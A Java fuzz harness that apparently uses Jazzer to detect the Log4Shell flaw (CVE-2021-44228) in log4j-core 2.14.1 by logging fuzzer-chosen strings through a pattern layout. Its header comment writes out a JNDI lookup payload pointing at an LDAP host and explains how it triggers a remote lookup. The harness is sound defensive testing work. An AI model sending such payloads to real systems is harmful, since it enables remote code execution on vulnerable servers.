package detectors;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import java.io.OutputStream;
import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;
import org.apache.logging.log4j.core.LoggerContext;
import org.apache.logging.log4j.core.appender.OutputStreamAppender;
import org.apache.logging.log4j.core.config.Configuration;
import org.apache.logging.log4j.core.layout.PatternLayout;

/**
 * log4j-core 2.14.1, CVE-2021-44228 (Log4Shell): a logged message is interpolated, so
 * "${jndi:ldap://host/x}" in it makes JndiLookup call Context.lookup on an attacker's URL.
 * The application logs a user-supplied string, as in the advisories. Its appender formats
 * every event with a pattern layout (where the lookup happens) and throws the bytes away.
 */
public class Log4jFuzzer {
    private static Logger log;

    public static void fuzzerInitialize() {
        LoggerContext ctx = (LoggerContext) LogManager.getContext(false);
        Configuration config = ctx.getConfiguration();
        OutputStreamAppender sink = OutputStreamAppender.newBuilder()
                .setName("sink")
                .setTarget(OutputStream.nullOutputStream())
                .setLayout(PatternLayout.newBuilder().withPattern("%d %p %c: %m%n").withConfiguration(config).build())
                .build();
        sink.start();
        config.getRootLogger().getAppenders().keySet().forEach(config.getRootLogger()::removeAppender);
        config.getRootLogger().addAppender(sink, Level.INFO, null);
        config.getRootLogger().setLevel(Level.INFO);
        ctx.updateLoggers();
        log = LogManager.getLogger("app");
    }

    public static void fuzzerTestOneInput(FuzzedDataProvider data) {
        String user = data.consumeRemainingAsString();
        log.info("login attempt for user {}", user);
        log.error(user);
    }
}
